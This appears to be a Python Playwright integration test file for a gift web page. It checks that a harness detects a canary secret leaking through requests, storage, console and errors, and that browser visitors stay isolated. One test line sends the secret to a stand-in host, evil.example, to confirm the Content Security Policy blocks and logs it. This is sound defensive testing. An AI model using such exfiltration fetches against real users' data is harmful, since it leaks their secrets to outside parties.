"""The ground the gift page's tests stand on: a request, a line, a word in the storage that is there is also seen."""

import pytest
from playwright.async_api import Browser

from tests.integration.gift_page_browser import PageVisitor, visiting
from tests.integration.gift_page_world import GiftWorld

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET = "Canary-Quintessa"


@pytest.mark.own_browser
async def test_a_secret_that_gets_out_is_seen(gift_world: GiftWorld, visitor: PageVisitor) -> None:
    """In a query, a header, a body, to another host, in each storage, on the console, in an error, in a refusal."""
    page, origin = visitor.page, gift_world.origin
    gift = await gift_world.seal(gift_world.person("ada"))
    await page.goto(gift.url)
    assert SECRET not in await visitor.everything()
    ways = {
        "query": f"() => fetch('/health/live?x={SECRET}1')",
        "header": f"() => fetch('/health/live', {{ headers: {{ 'X-Y': '{SECRET}2' }} }})",
        "body": f"() => fetch('/sponsor/claim', {{ method: 'POST', body: '{SECRET}3' }})",
        "local": f"() => localStorage.setItem('a', '{SECRET}4')",
        "session": f"() => sessionStorage.setItem('a', '{SECRET}5')",
        "cookie": f"() => {{ document.cookie = 'a={SECRET}6'; }}",
        "history": f"() => history.replaceState({{ a: '{SECRET}7' }}, '')",
        "console": f"() => console.warn('{SECRET}8')",
        "database": f"() => new Promise((done) => {{ indexedDB.open('{SECRET}9').onsuccess = () => done(0); }})",
        "refused": f"() => fetch('https://evil.example/{SECRET}10').catch(() => 0)",
        "fault": f"() => {{ setTimeout(() => {{ throw new Error('{SECRET}11'); }}); }}",
    }
    for script in ways.values():
        await page.evaluate(script)
    await page.wait_for_timeout(50)
    seen = await visitor.everything()
    assert [number for number in range(1, 12) if f"{SECRET}{number}" not in seen] == []
    assert visitor.foreign(origin) == []
    assert visitor.violations == [f"connect-src https://evil.example/{SECRET}10"]
    await page.goto("about:blank")
    await page.evaluate("() => fetch('http://elsewhere.example/x').catch(() => 0)")
    assert visitor.foreign(origin) == ["http://elsewhere.example/x"]


async def test_nothing_of_a_visitor_is_left_to_the_next(gift_world: GiftWorld, browser: Browser) -> None:
    """Two visitors share a browser, and neither sees the other's traffic."""
    page, seen = f"{gift_world.origin}/health/live", []
    script = """async (secret) => { localStorage.a ??= secret; document.cookie ||= `a=${secret}`;
        const { state } = await navigator.permissions.query({ name: "clipboard-read" });
        return [localStorage.a, document.cookie, state]; }"""
    for secret in (SECRET, "another"):
        async with visiting(browser) as visit:
            visitor = await visit()
            await visitor.page.goto(f"{page}?{secret}")
            seen.append(await visitor.page.evaluate(script, secret))
            await visitor.context.grant_permissions(["clipboard-read"])
            assert [each.url for each in visitor.wire.sent] == [f"{page}?{secret}"]
            with pytest.raises(AssertionError):
                await visitor.everything()
        assert browser.contexts == []
    assert seen == [[SECRET, f"a={SECRET}", "prompt"], ["another", "a=another", "prompt"]]
